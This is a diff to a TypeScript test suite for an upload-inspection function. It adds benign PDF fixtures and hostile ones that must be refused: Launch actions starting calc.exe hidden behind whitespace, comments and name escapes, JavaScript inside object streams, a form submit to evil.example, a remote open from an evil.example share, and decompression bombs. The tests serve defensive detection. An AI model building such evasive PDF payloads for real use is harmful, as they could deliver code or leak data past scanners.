@@ -47,6 +47,24 @@ const objectStream = (object: string, filter = '/FlateDecode'): Buffer =>
     filter === '/FlateDecode' || filter === '' ? `11 0 ${object}` : 'x9A>',
     `/Type /ObjStm /N 1 /First 5 ${filter && `/Filter ${filter}`}`,
   );
+/** An object stream that holds `objects` as 11, 12 and so on, packed. */
+const packedObjects = (...objects: string[]): Buffer => {
+  const places = objects.map((_, at) => objects.slice(0, at).join(' ').length + (at > 0 ? 1 : 0));
+  const head = `${places.map((place, at) => `${at + 11} ${place}`).join(' ')} `;
+  return flateStream(head + objects.join(' '), `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`);
+};
+const onOpening = (action: string): Buffer => pdfWith(`<< /Type /Catalog /OpenAction ${action} >>`);
+const uri = '<< /S /URI /URI (https://registra.example) >>';
+const share = '(\\\\\\\\evil.example\\\\share\\\\x.pdf)';
+/** Even figures at the beginning of a page must not stand for an object stream that cannot be read. */
+const evenedOut = (): Buffer =>
+  pdfWith(
+    flateStream(
+      `${Buffer.from('1 0 << /S /JavaScript /JS (1) >>').toString('hex')}>`,
+      '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode',
+    ),
+    flateStream('1 0 0 1 0 0 cm 0 0 m 100 100 l S', ''),
+  );
 const blank200 = Buffer.alloc(200 * 1024 * 1024, ' ');
 
 const good: [string, Buffer, string][] = [
@@ -67,6 +85,23 @@ const good: [string, Buffer, string][] = [
     pdfWith(flateStream('1 0 0 1 72 720 cm BT (HTML/CSS/JavaScript) Tj ET')),
     'application/pdf',
   ],
+  [
+    'a PDF that opens at a page by an action in an object stream',
+    pdfWith(packedObjects('<< /Type /Catalog /OpenAction 12 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>')),
+    'application/pdf',
+  ],
+  ['a PDF with links in an object stream', pdfWith(packedObjects('<< /Subtype /Link /A 12 0 R >>', uri)), 'application/pdf'],
+  ['a PDF with an address for who presses a button', pdfWith(`<< /Subtype /Widget /AA << /U ${uri} >> >>`), 'application/pdf'],
+  ['a PDF whose form is reset by a button', pdfWith('<< /Subtype /Widget /A << /S /ResetForm >> >>'), 'application/pdf'],
+  [
+    'a PDF with a table of contents in a stream',
+    pdfWith(
+      flateStream('1 2 3', '/Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>'),
+    ),
+    'application/pdf',
+  ],
+  ['a PDF with an empty object stream', pdfWith(flateStream('', '/Type /ObjStm /N 0 /First 0 /Filter /FlateDecode')), 'application/pdf'],
+  ['a PDF with odd strings', pdfWith('<< /Title (100% \\(of\\) (it) \\\\) /S /D /Keys <2f4c61756e6368> >>'), 'application/pdf'],
   ['a PNG', samplePng(), 'image/png'],
   ['a PNG of just 100 megapixels', samplePng(10_000, 10_000), 'image/png'],
   ['a PNG with a text chunk', samplePng(2, 2, [pngChunk('tEXt', Buffer.from('Title\0Passport <page 2>'))]), 'image/png'],
@@ -166,6 +201,69 @@ const bad: [string, Buffer, RefusalReason][] = [
   ['a PDF whose object stream is packed unusually', pdfWith(objectStream('<<>>', '/ASCIIHexDecode')), 'malformed'],
   ['a PDF that is encrypted and hides its objects', pdfWith(`<< /Encrypt 9 0 R >>\n${objectStream('<<>>', '/Crypt')}`), 'encrypted'],
   ['a PDF whose object stream unfolds without end', pdfWith(objectStream('<<>>'.padEnd(70 * 1024 * 1024))), 'unsafeArchive'],
+  ['a PDF whose hidden object stream another stream evens out', evenedOut(), 'malformed'],
+  ['a PDF whose object stream goes by its keys alone', pdfWith(flateStream('x9A>', '/N 1 /First 5 /Filter /ASCIIHexDecode')), 'malformed'],
+  [
+    'a PDF whose object stream names its filter in escapes',
+    pdfWith(flateStream('x9A>', '/Type /Obj#53tm /N 1 /First 5 /Filter /ASCII85Decode')),
+    'malformed',
+  ],
+  [
+    'a PDF whose object stream is predicted',
+    pdfWith(flateStream('11 0 <<>>', '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
+    'malformed',
+  ],
+  [
+    'a PDF whose object stream has two filters',
+    pdfWith(flateStream('11 0 <<>>', '/Type /ObjStm /N 1 /First 5 /Filter /Crypt /Filter /FlateDecode')),
+    'malformed',
+  ],
+  [
+    'a PDF whose object stream hides its kind in a string',
+    pdfWith(flateStream('x9A>', '/Type /ObjStm /X (obj) /N 1 /First 5 /Filter /LZWDecode')),
+    'malformed',
+  ],
+  ['a PDF that starts a program behind blanks', onOpening(`<< /S${' '.repeat(40)}/Launch /F (calc.exe) >>`), 'embeddedContent'],
+  [
+    'a PDF that starts a program behind a long comment',
+    onOpening(`<< /S %${'x'.repeat(200)}\n/Launch /F (calc.exe) >>`),
+    'embeddedContent',
+  ],
+  [
+    'a PDF that starts a program behind a percent sign in a string',
+    onOpening(`<< /T (%) /S %${'x'.repeat(200)}\n/#4caunch >>`),
+    'embeddedContent',
+  ],
+  [
+    'a PDF with a script behind blanks in an object stream',
+    pdfWith(packedObjects(`<< /S${'\0'.repeat(40)}/JavaScript >>`)),
+    'embeddedContent',
+  ],
+  ['a PDF with an object in a string', pdfWith(`(7 0 obj << /S${' '.repeat(40)}/Launch >> endobj)`), 'embeddedContent'],
+  ['a PDF that opens another of a share', onOpening(`<< /S /GoToR /F ${share} /D [0 /Fit] >>`), 'embeddedContent'],
+  ['a PDF that opens another of its own files', pdfWith('<< /AA << /O << /S /GoToE /F (x) >> >> >>'), 'embeddedContent'],
+  ['a PDF that sends a form', onOpening('<< /S /SubmitForm /F (https://evil.example/x) >>'), 'embeddedContent'],
+  ['a PDF that fetches data', pdfWith('<< /A << /S /ImportData /F (x) >> >>'), 'embeddedContent'],
+  ['a PDF with a film', pdfWith('<< /Type /Annot /Subtype /Movie >>'), 'embeddedContent'],
+  ['a PDF that opens an address by itself', onOpening(uri), 'embeddedContent'],
+  ['a PDF that opens an address by itself, by a reference', pdfWith('<< /Type /Catalog /OpenAction 9 0 R >>', uri), 'embeddedContent'],
+  [
+    'a PDF that opens an address after a page',
+    pdfWith('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [9 0 R] >> >>', uri),
+    'embeddedContent',
+  ],
+  [
+    'a PDF that opens an address with a page, out of an object stream',
+    pdfWith(packedObjects('<< /Type /Page /AA 12 0 R >>', '<< /O 13 0 R >>', uri)),
+    'embeddedContent',
+  ],
+  [
+    'a PDF that opens an address whose number a comment hides',
+    joined(pdfWith('<< /OpenAction 77 0 R >>').subarray(0, -40), `77 %\n0 %\nobj ${uri} endobj\n`, pdfWith().subarray(-40)),
+    'embeddedContent',
+  ],
+  ['a PDF whose stream lies in another file', pdfWith('<< /Length 0 /F (\\\\evil\\x) >>\nstream\n\nendstream'), 'embeddedContent'],
+  ['a PDF nested without end', pdfWith('['.repeat(5000)), 'malformed'],
   ['a PDF of version 9', samplePdf('', '9.0'), 'malformed'],
   ['a PNG with HTML behind it', joined(samplePng(), html), 'trailingBytes'],
   ['a PNG with an archive behind it', joined(samplePng(), jar), 'trailingBytes'],
@@ -282,13 +380,26 @@ describe('What a file is, by its content', () => {
   });
 
   // What a search could take hours for: a case that hangs ends with the suite's own limit.
-  it.each([' ', '/S ', '/S%a\n', '/S % ', '/JS 1 1 ', '/EF 1 ', 'obj ', 'stream\n1 1 ', '#41', '/S/S'])(
-    'is done with 15 MB of %j',
-    async (one) => {
-      const verdict = await inspectFile(samplePdf(one.repeat(Math.floor((15 * 1024 * 1024) / one.length))));
-      expect('type' in verdict || 'refused' in verdict).toBe(true);
-    },
-  );
+  it.each([
+    ' ',
+    '/S ',
+    '/S%a\n',
+    '/S % ',
+    '/JS 1 1 ',
+    '/EF 1 ',
+    'obj ',
+    'stream\n1 1 ',
+    '#41',
+    '/S/S',
+    'obj<<',
+    'obj(',
+    'obj[(',
+    '1 0 obj',
+    '<</Type/ObjStm>>stream\n',
+  ])('is done with 15 MB of %j', async (one) => {
+    const verdict = await inspectFile(samplePdf(one.repeat(Math.floor((15 * 1024 * 1024) / one.length))));
+    expect('type' in verdict || 'refused' in verdict).toBe(true);
+  });
 
   it('never throws, whatever is cut off or flipped', async () => {
     const whole = good.map(([, content]) => content).filter((content) => content.length < 5000);
